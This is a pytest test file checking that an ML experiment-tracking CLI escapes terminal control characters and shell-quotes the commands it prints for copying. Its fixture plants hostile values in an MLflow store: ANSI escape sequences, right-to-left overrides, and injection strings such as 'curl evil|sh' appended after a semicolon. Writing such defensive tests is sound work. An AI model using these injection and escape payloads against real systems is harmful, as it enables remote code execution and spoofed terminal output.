"""No terminal is given anything it would obey; what is shown to be copied is one command, whatever a store says."""

from __future__ import annotations

import ast
import json
import logging
import shlex
from pathlib import Path

import pytest
from mlflow import MlflowClient
from support import artifact_folder, make_run

from tradingbot_exp.cli.main import run
from tradingbot_exp.config.redaction import RedactingFormatter
from tradingbot_exp.runtime.package import FOLDER
from tradingbot_exp.terminal.output import say

HOSTILE = {
    "title": "x\x1b]0;T\x07",
    "clear": "\x1b[2J\x1b[H",
    "one byte": "\x9b31m",
    "carriage return": "FAILED\rFINISHED",
    "backspace": "bad\b\b\bgood",
    "right to left": "\u202egnp.exe",
    "isolate": "\u2066a\u2069",
    "delete": "a\x7f",
    "half a character": "bad\udcff.txt",
}


def is_tame(text: str) -> bool:
    return all(letter.isprintable() or letter in "\n\t" for letter in text)


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
def test_control_characters_are_shown_and_not_sent(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    say(f"{text} ü 漢\n")
    say(f"{text}\n", error=True)
    out, err = capsys.readouterr()
    assert is_tame(out) and out.endswith(" ü 漢\n") and "\\" in out
    assert is_tame(err)
    record = logging.LogRecord("x", logging.WARNING, "", 0, "of %s", (text,), None)
    assert is_tame(RedactingFormatter("%(message)s").format(record))


def test_nothing_else_writes_to_a_terminal() -> None:
    """Bars draw numbers alone."""
    drawing = {"terminal/output.py", "training/progress.py", "hpo/results/display.py"}
    found = []
    for file in FOLDER.rglob("*.py"):
        for node in ast.walk(ast.parse(file.read_text(encoding="utf-8"))):
            written = isinstance(node, ast.Attribute) and node.attr in ("write", "writelines")
            if written and ast.unparse(node.value) in ("sys.stdout", "sys.stderr"):
                found.append(file.relative_to(FOLDER).as_posix())
            if isinstance(node, ast.Call) and ast.unparse(node.func) == "print":
                found.append(file.relative_to(FOLDER).as_posix())
    assert set(found) <= drawing


@pytest.fixture
def hostile_run(workdir: Path, monkeypatch: pytest.MonkeyPatch) -> str:
    """A run in a store that somebody prepared: every text that a command shows of it is hostile."""
    monkeypatch.chdir(workdir)
    client = MlflowClient(f"sqlite:///{workdir / 'mlflow.db'}")
    nasty = "".join(HOSTILE[name] for name in ("title", "clear", "carriage return", "right to left"))
    experiment = client.create_experiment("e\x1b[2J\nx", (workdir / "mlruns" / "e").as_uri())
    tags = {
        "mlflow.runName": f"{nasty}\nrun",
        "mlflow.source.name": f"{nasty} prog.py; curl evil|sh",
        "study.name": nasty,
        "config.sha256": "1" * 64,
        "error": nasty,
        "sweep.overrides": "seed=1,2; curl evil|sh",
        "process.host": nasty,
        "mlflow.source.git.commit": nasty,
    }
    run_id = make_run(client, experiment, "training", tags=tags)
    client.log_param(run_id, "model.name", nasty)
    client.log_metric(run_id, "val_loss", 1.0)
    place = artifact_folder(client.get_run(run_id))
    for name, text in {
        "environment/environment.json": json.dumps({"launch_dir": "/srv; curl evil.sh|sh #", "git": {"commit": nasty}}),
        "config/overrides.yaml": json.dumps([f"data.path={nasty}; curl evil|sh"]),
        "config/config.yaml": json.dumps({"data": {"path": nasty}}),
        "code/uncommitted.patch": f"diff --git a/{nasty} b/x\n+{nasty}\n",
    }.items():
        (place / name).parent.mkdir(parents=True, exist_ok=True)
        (place / name).write_text(text)
    make_run(client, experiment, "study", "RUNNING", tags={**tags, "process.pid": "1"})
    return run_id


@pytest.mark.parametrize(
    ("words", "status"),
    [
        ("history", 0),
        ("doctor", 1),
        ("diff RUN RUN", 0),
        ("reproduce RUN", 0),
        ("report training RUN", 0),
        ("verdict RUN", 0),
    ],
)
def test_what_a_store_says_reaches_no_terminal_raw(
    words: str, status: int, hostile_run: str, capsys: pytest.CaptureFixture[str]
) -> None:
    for more in ([], ["--json"]):
        assert status == run([*words.replace("RUN", hostile_run).split(), *more])
        out, err = capsys.readouterr()
        assert is_tame(out + err) and out + err


def test_commands_to_be_copied_are_quoted(hostile_run: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["reproduce", hostile_run]) == 0
    lines = [line.strip() for line in capsys.readouterr().out.splitlines()]
    (place,) = [line for line in lines if line.startswith("cd ")]
    assert shlex.split(place) == ["cd", "/srv; curl evil.sh|sh #"]
    (command,) = [line for line in lines if line.startswith("python -m tradingbot_exp.train")]
    assert shlex.split(command)[4:] == ["hydra/sweeper=basic", "seed=1,2;", "curl", "evil|sh"]
